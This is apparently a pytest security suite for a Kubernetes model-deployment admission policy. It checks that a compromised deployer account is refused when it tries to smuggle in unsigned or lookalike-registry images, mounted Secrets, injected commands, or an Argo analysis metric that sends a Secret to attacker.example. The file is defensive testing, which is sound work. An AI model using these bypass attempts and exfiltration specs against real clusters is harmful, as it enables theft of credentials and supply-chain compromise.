"""Attacks on an environment of the cluster: against whoever holds the deployer's account, or can push to a registry."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from cluster_installation import IMAGE, small_pod
from kube import eventually

pytestmark = [pytest.mark.cluster, pytest.mark.filterwarnings("ignore:Unverified HTTPS request")]

MODEL, DIGEST = "insurance-high-use", IMAGE.partition("@")[2]
OTHER_DIGEST = f"sha256:{'ab' * 32}"
Body = dict[str, Any]
Change = Callable[[Body], object]


@pytest.fixture(scope="module")
def deployer(api: Any, installation: Any) -> Any:
    """The account that deploys, in other hands."""
    return api.as_account(installation.pipelines, "modelway-deployer")


@pytest.fixture(scope="module")
def create(deployer: Any, installation: Any) -> Callable[[str, Change], Any]:
    """Tries as the deployer to create the same as a pod and as a new Rollout, and to patch the Rollout to it."""

    def attempt(how: str, change: Change) -> Any:
        spec = small_pod()["spec"]
        spec["containers"][0]["env"] = [{"name": "MODELWAY_VERIFYING_KEY", "value": "/keys/verifying.pem"}]
        change(spec)
        core = f"/api/v1/namespaces/{installation.production}"
        argo = f"/apis/argoproj.io/v1alpha1/namespaces/{installation.production}/rollouts"
        labels = {"app.kubernetes.io/name": "stolen"}
        template = {"metadata": {"labels": labels}, "spec": spec}
        match how:
            case "pod":
                return deployer("POST", f"{core}/pods", {**small_pod(), "spec": spec})
            case "Rollout":
                body = {"selector": {"matchLabels": labels}, "strategy": {"canary": {}}, "template": template}
                rollout = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "metadata": {"name": "stolen"}}
                return deployer("POST", argo, {**rollout, "spec": body})
            case _:
                labels["app.kubernetes.io/name"] = MODEL
                return deployer("PATCH", f"{argo}/{MODEL}", {"spec": {"template": template}})

    return attempt


def _server(**changes: Any) -> Change:
    return lambda spec: spec["containers"][0].update(changes)


def _beside(**container: Any) -> Change:
    security = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    return lambda spec: spec["containers"].append({"name": "beside", "securityContext": security, **container})


def _mounted(**volume: Any) -> Change:
    def change(spec: Body) -> None:
        spec["volumes"] = [{"name": "stolen", **volume}]
        spec["containers"][0]["volumeMounts"] = [{"name": "stolen", "mountPath": "/stolen"}]

    return change


SECRET = "registry"
ATTACKS: dict[str, tuple[Change, str]] = {
    "a digest that nobody signed": (_server(image=f"{IMAGE.partition('@')[0]}@{OTHER_DIGEST}"), "ReleasedImages"),
    "a registry of their own": (_server(image=f"registry.attacker.example/m@{DIGEST}"), "`registries`"),
    "a registry that begins alike": (_server(image=f"registry.example.com.evil/models/m@{DIGEST}"), "`registries`"),
    "a path that begins alike": (_server(image=f"registry.example.com/models-evil/m@{DIGEST}"), "`registries`"),
    "another port": (_server(image=f"registry.example.com:5000/models/m@{DIGEST}"), "`registries`"),
    "a container beside": (_beside(image=f"registry.example.com/models/tools@{OTHER_DIGEST}"), "`images`"),
    "the released image beside": (_beside(image=IMAGE, command=["sh"]), "`images`"),
    "a Secret as a volume": (_mounted(secret={"secretName": SECRET}), "`secrets`"),
    "a Secret in a projected volume": (_mounted(projected={"sources": [{"secret": {"name": SECRET}}]}), "`secrets`"),
    "a Secret as variables": (_server(envFrom=[{"secretRef": {"name": SECRET}}]), "`secrets`"),
    "a Secret as a variable": (
        _server(env=[{"name": "AWS_REGION", "valueFrom": {"secretKeyRef": {"name": SECRET, "key": "key"}}}]),
        "`secrets`",
    ),
    "a ConfigMap": (_mounted(configMap={"name": "private"}), "`configMaps`"),
    "a Secret by a driver": (_mounted(csi={"driver": "secrets-store.csi.k8s.io", "readOnly": True}), "volumes"),
    "somebody's claim": (_mounted(persistentVolumeClaim={"claimName": "data"}), "volumes"),
    "another account": (lambda spec: spec.update(serviceAccountName="default"), "`accounts`"),
    "a command": (_server(command=["python", "-c", "print(open('/keys').read())"]), "no command"),
    "a hook": (_server(lifecycle={"postStart": {"exec": {"command": ["python"]}}}), "no command"),
    "a probe": (_server(readinessProbe={"exec": {"command": ["python"]}}), "no command"),
    "a directory to import from": (_server(workingDir="/stolen"), "no command"),
    "no signature": (_server(args=["--unsigned"]), "`arguments`"),
    "a variable that starts code": (_server(env=[{"name": "PYTHONSTARTUP", "value": "/tmp/x"}]), "`variables`"),  # noqa: S108
    "the server's memory": (lambda spec: spec.update(shareProcessNamespace=True), "processes"),
}


@pytest.mark.parametrize("how", ["pod", "Rollout", "patch"])
def test_the_deployer_may_do_what_it_is_for(create: Any, how: str) -> None:
    answer = create(how, lambda _: None)
    assert answer.status in {200, 201}, answer.message


@pytest.mark.parametrize("how", ["pod", "Rollout", "patch"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_pod_of_other_parts_is_refused(create: Any, how: str, attack: str) -> None:
    change, reason = ATTACKS[attack]
    answer = create(how, change)
    assert answer.status == 403, (answer.status, answer.message)
    assert reason in answer.message


@pytest.fixture
def sidecar(api: Any, installation: Any) -> Iterator[str]:
    """An image that staging names for containers beside the server."""
    path = f"/apis/modelway.io/v1/namespaces/{installation.staging}/admissions/modelway"
    image = f"registry.example.com/proxy@{OTHER_DIGEST}"
    assert api("PATCH", path, {"spec": {"images": [image]}}, real=True).status == 200
    yield image
    assert api("PATCH", path, {"spec": {"images": []}}, real=True).status == 200


def test_the_environments_secrets_are_the_servers_alone(api: Any, installation: Any, sidecar: str) -> None:
    """Against a sidecar of an image that the environment names, started with a command of the attacker's."""
    pods = f"/api/v1/namespaces/{installation.staging}/pods"

    def attempt(change: Change) -> Any:
        body = small_pod()
        spec = body["spec"]
        spec["volumes"] = [
            {"name": "key", "secret": {"secretName": "modelway-encryption-key"}},
            {"name": "tmp", "emptyDir": {}},
        ]
        spec["containers"][0]["volumeMounts"] = [{"name": "tmp", "mountPath": "/tmp"}]  # noqa: S108
        change(spec)
        return api("POST", pods, body)

    eventually(lambda: attempt(_beside(image=sidecar)).status == 201, "the sidecar is admitted", 20)
    for change in (
        _beside(image=sidecar, volumeMounts=[{"name": "key", "mountPath": "/key"}]),
        _beside(image=sidecar, volumeMounts=[{"name": "tmp", "mountPath": "/tmp"}]),  # noqa: S108
        _beside(image=sidecar, envFrom=[{"secretRef": {"name": "modelway-store"}}]),
    ):
        answer = attempt(change)
        assert answer.status == 403
        assert "reads no Secret" in answer.message


@pytest.mark.parametrize(
    ("spec", "says"),
    [
        (
            {
                "args": [{"name": "key", "valueFrom": {"secretKeyRef": {"name": SECRET, "key": "key"}}}],
                "metrics": [{"name": "sent", "provider": {"web": {"url": "http://attacker.example/{{args.key}}"}}}],
            },
            "reads no Secret",
        ),
        ({"metrics": [{"name": "ran", "provider": {"job": {"spec": {"template": {}}}}}]}, "asks Prometheus"),
    ],
    ids=["a Secret to an address", "a job"],
)
@pytest.mark.parametrize("method", ["POST", "PATCH"])
def test_no_analysis_sends_a_secret_away(deployer: Any, installation: Any, method: str, spec: Body, says: str) -> None:
    path = f"/apis/argoproj.io/v1alpha1/namespaces/{installation.production}/analysistemplates"
    body = {"apiVersion": "argoproj.io/v1alpha1", "kind": "AnalysisTemplate", "metadata": {"name": "sent"}}
    if method == "POST":
        answer = deployer("POST", path, {**body, "spec": spec})
    else:
        answer = deployer("PATCH", f"{path}/{MODEL}-watch", {"spec": spec})
    assert answer.status == 403, answer.message
    assert says in answer.message


def test_the_deployer_cannot_widen_what_an_environment_admits(deployer: Any, installation: Any) -> None:
    path = f"/apis/modelway.io/v1/namespaces/{installation.production}/admissions/modelway"
    assert deployer("PATCH", path, {"spec": {"secrets": [SECRET]}}).unauthorized
    label = {"metadata": {"labels": {"modelway.io/images": "any"}}}
    assert deployer("PATCH", f"/api/v1/namespaces/{installation.production}", label).unauthorized
    policies = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies"
    assert deployer("DELETE", f"{policies}/{installation.prefix}-pods").unauthorized


@pytest.mark.parametrize("account", ["runner", "packager", "monitor"])
def test_nobody_but_the_deployer_releases_to_production(api: Any, installation: Any, account: str) -> None:
    path = f"/apis/modelway.io/v1/namespaces/{installation.production}/releasedimages/modelway"
    change = {"spec": {"digests": {"insurance-high-use.2": OTHER_DIGEST}}}
    assert api.as_account(installation.pipelines, f"modelway-{account}")("PATCH", path, change).unauthorized


def test_a_list_of_releases_holds_digests_alone(deployer: Any, installation: Any) -> None:
    path = f"/apis/modelway.io/v1/namespaces/{installation.production}/releasedimages/modelway"
    answer = deployer("PATCH", path, {"spec": {"digests": {"insurance-high-use.2": "latest"}}})
    assert answer.status == 422
